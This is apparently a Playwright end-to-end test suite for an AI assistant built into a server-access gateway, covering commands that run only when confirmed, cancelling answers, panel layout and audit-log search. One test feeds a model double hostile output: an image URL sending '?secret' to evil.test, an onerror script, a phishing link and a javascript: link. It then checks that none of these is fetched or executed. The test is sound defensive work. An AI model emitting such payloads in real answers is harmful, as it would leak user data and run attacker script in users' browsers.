// The assistant by keyboard alone, over a double of a model that believes whatever it reads: from a question to a run and its summary.
import { hostname } from 'node:os';
import type { GatewayRig } from './rigs/gateway.ts';
import { enter, expect, openShell, press, run, test, typeText } from './rigs/journey.ts';
import { MODEL_KEY, type ModelDouble, openModel } from './rigs/model.ts';
import { openPreparedGateway } from './rigs/prepared.ts';

let model: ModelDouble;
let gateway: GatewayRig;
test.beforeAll(async () => {
  model = await openModel();
  gateway = await openPreparedGateway({
    flags: ['--assistant-address', model.url, '--assistant-model', 'gpt-4', '--assistant-key', MODEL_KEY],
  });
});
test.afterAll(async () => {
  await gateway?.dispose();
  await model?.dispose();
});
test.afterEach(() => {
  model.say();
  model.slow(0);
});

// Rule 1: the assistant says which model powers it
test('a question is answered with a look-up, a command is proposed, changed, run by its key and summed up', async ({
  page,
}) => {
  await enter(page, gateway);
  await press(page, 'g', '/');
  const field = page.getByLabel('Question to the assistant');
  await expect(field).toBeFocused();
  await expect(page.getByText(`Goes to gpt-4 at ${new URL(model.url).host}.`)).toBeVisible();
  await typeText(page, 'which servers are there?\n');
  await expect(page.getByText('Looks for servers')).toBeVisible();
  await expect(page.getByText(/^I looked\./)).toBeVisible();
  await expect(page).toHaveURL(/\/web\/assist\/[0-9a-f-]{36}$/);
  await expect(page.getByRole('navigation', { name: 'Conversations' })).toContainText('A question about servers');

  model.say(`CALL propose_command {"command":"echo proposed","nodes":["${hostname()}"]}`);
  await expect(field).toBeFocused();
  await typeText(page, 'say something there\n');
  const card = page.getByRole('region', { name: 'Proposed command' });
  await expect(card.getByRole('button', { name: 'Run on 1 server' })).toBeEnabled();
  const command = card.getByLabel('Command');
  await command.focus();
  await press(page, 'End');
  await typeText(page, ' and-changed\n');
  // The Enter of a field runs nothing.
  await expect(card.getByText('Nothing has been run.')).toBeVisible();
  await expect(card.getByRole('button', { name: 'Run on 1 server' })).toBeEnabled();
  await press(page, 'Control+Enter');
  await expect(card.getByText('proposed and-changed', { exact: true })).toBeVisible();
  await expect(card.getByText('exit 0')).toBeVisible();
  await expect(card.getByRole('region', { name: 'Summary' })).toContainText('room on the disk');
  await expect(card.getByRole('button', { name: 'It has run' })).toBeDisabled();
  await expect(card.locator('input:focus')).toHaveValue('echo proposed and-changed');

  // What was said is there again, and what has run is not proposed to run by itself.
  await page.reload();
  await expect(page.getByText(`It ran on ${hostname()}`)).toBeVisible();
  await expect(card.getByText('You have run what the assistant proposed: see below.')).toBeVisible();
  await expect(page.getByRole('region', { name: 'Summary' })).toBeVisible();
});

test('what an answer holds is shown and not obeyed: no picture is fetched, links show their address', async ({
  page,
}) => {
  const asked: string[] = [];
  page.on('request', request => asked.push(request.url()));
  await enter(page, gateway);
  await press(page, 'g', '/');
  await expect(page.getByLabel('Question to the assistant')).toBeFocused();
  model.say(
    '![pixel](http://evil.test/?secret) <img src="http://evil.test/x" onerror="document.title=1"> [Sign in](https://evil.test/login) [run](javascript:document.title=1)',
  );
  await typeText(page, 'hello\n');
  await expect(page.getByRole('link', { name: 'https://evil.test/login' })).toBeVisible();
  await expect(page.getByText('<img src=')).toBeVisible();
  await expect(page.getByRole('log').getByRole('link')).toHaveCount(1);
  expect(asked.filter(url => url.includes('evil.test'))).toEqual([]);
});

test('an answer is stopped by Escape, a failure is said, and the next question is answered', async ({ page }) => {
  await enter(page, gateway);
  await press(page, 'g', '/');
  const field = page.getByLabel('Question to the assistant');
  await expect(field).toBeFocused();
  model.slow(300);
  model.say('one two three four five six seven eight nine ten');
  await typeText(page, 'hello\n');
  await expect(page.getByRole('log').getByText(/^one two/)).toBeVisible();
  await press(page, 'Escape');
  await expect(page.getByText('You stopped the answer.')).toBeVisible();
  model.slow(0);
  model.trouble({ kind: 'cut', afterPieces: 3 });
  await typeText(page, 'again\n');
  await expect(page.getByText(/cannot be reached, or broke off/)).toBeVisible();
  await typeText(page, 'and now\n');
  await expect(page.getByText('ask me').last()).toBeVisible();
});

// Before the panel is shown in another way, which is kept.
// Rule 9: the docked assistant narrows the page by 520 px
test('beside the docked assistant every column of the list of users that is shown can be read', async ({ page }) => {
  await page.setViewportSize({ width: 1440, height: 900 });
  await enter(page, gateway);
  await press(page, 'g', 'u');
  await expect(page.getByRole('columnheader', { name: 'Last sign-in (UTC)' })).toBeVisible();
  await press(page, 'Control+/');
  await expect(page.locator('[data-docked]')).toBeVisible();
  expect((await page.locator('[data-docked]').boundingBox())?.width).toBe(520);
  await expect(page.getByRole('columnheader', { name: 'Last sign-in (UTC)' })).toBeHidden();
  for (const heading of await page.locator('main th:visible').all()) {
    const { width = 0 } = (await heading.boundingBox()) ?? {};
    expect(width, await heading.innerText()).toBeGreaterThanOrEqual(80);
  }
  const roles = page.getByRole('row', { name: /^admin/ }).getByText('access', { exact: true });
  await expect(roles).toBeInViewport({ ratio: 1 });
});

// Rule 2.4: popup and teaser of the assistant
// Rule 4: the assistant shows when its stored flag is on, and Close turns it off
// Rule 3.1: the assistant's flag and view mode
test('the panel comes and goes by its key, beside pages or over them, and keeps its conversation', async ({ page }) => {
  await enter(page, gateway);
  const teaser = page.getByRole('complementary', { name: 'About the assistant' });
  await expect(teaser).toBeVisible();
  await press(page, 'Control+/');
  const panel = page.getByRole('complementary', { name: 'Assistant', exact: true });
  await expect(panel.getByLabel('Question to the assistant')).toBeFocused();
  await expect(teaser).toBeHidden();
  await typeText(page, 'hello\n');
  await expect(panel.getByText('ask me')).toBeVisible();
  await panel.getByRole('button', { name: 'Show as a popup' }).focus();
  await press(page, 'Enter');
  await expect(panel.getByRole('button', { name: 'Make the assistant larger' })).toBeVisible();
  await page.reload();
  await expect(panel).toBeVisible();
  // What was left open takes no keys from the page.
  await expect(panel.getByLabel('Question to the assistant')).not.toBeFocused();
  await panel.getByRole('button', { name: 'Close' }).focus();
  await press(page, 'Enter');
  await expect(panel).toBeHidden();
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Servers' })).toBeVisible();
  await expect(panel).toBeHidden();
  await expect(teaser).toBeHidden();
});

// Rule 4: while the onboarding dialog shows, the assistant is hidden
// Rule 1: an onboarding prompt, and the assistant when it is gone
test('while the onboarding dialog shows, the assistant is hidden', async ({ page }) => {
  await page.route(/\/resources\/check$/, route => route.fulfill({ json: { hasResource: false } }));
  await enter(page, gateway);
  const dialog = page.getByRole('dialog', { name: 'Nothing to reach yet' });
  await expect(dialog).toBeVisible();
  const assistant = page.getByRole('complementary', { name: /assistant/i });
  await expect(assistant).toHaveCount(0);
  await dialog.getByRole('button', { name: "I'll do that later" }).press('Enter');
  await expect(assistant).toBeVisible();
});

test('a command is made of words and stands behind the prompt, not run; a selection is explained', async ({ page }) => {
  await enter(page, gateway);
  await openShell(page);
  model.say('CALL make_command {"command":"echo from-the-model","reasoning":"Says something."}');
  await press(page, 'Control+Shift+a');
  await expect(page.getByRole('combobox')).toBeFocused();
  await typeText(page, 'say something\n');
  const dialog = page.getByRole('alertdialog', { name: 'Put this command into the terminal?' });
  await expect(dialog).toContainText('echo from-the-model');
  await dialog.getByRole('button', { name: 'Put it in' }).focus();
  await press(page, 'Enter');
  const screen = page.locator('.xterm-rows:visible');
  await expect(screen).toContainText('echo from-the-model');
  await page.locator('.xterm-helper-textarea:focus').waitFor();
  // The line stands there once: nothing has printed it.
  expect((await screen.innerText()).split('from-the-model').length).toBe(2);
  await press(page, 'Enter');
  await expect.poll(async () => (await screen.innerText()).split('from-the-model').length).toBe(3);

  // Over a terminal the palette has a key of its own.
  for (const words of ['Select the output of the last command', 'Explain the selection in the terminal']) {
    await press(page, 'Control+Shift+k');
    await page.locator('[role=combobox]:focus').waitFor();
    await typeText(page, `${words}\n`);
    await expect(page.locator('[role=combobox]')).toBeHidden();
  }
  const explained = page.getByRole('dialog', { name: 'What this means' });
  await expect(explained).toContainText('The disk is full.');
  await press(page, 'Escape');
  await expect(explained).toBeHidden();
});

test('words become a search of the audit log, which waits for Enter', async ({ page }) => {
  await enter(page, gateway);
  model.say('type:user.login user:nobody-of-this-name');
  await run(page, 'Write a search of the audit log with the assistant');
  await typeText(page, 'sign-ins of nobody\n');
  const field = page.getByRole('combobox', { name: /^Filter/ });
  await expect(field).toHaveValue('type:user.login user:nobody-of-this-name');
  await expect(field).toBeFocused();
  await expect(page.locator('tbody tr').first()).toBeVisible();
  expect(page.url()).not.toContain('search=');
  await press(page, 'Enter');
  await expect(page).toHaveURL(/search=/);
  await expect(page.locator('tbody tr')).toHaveCount(0);
});
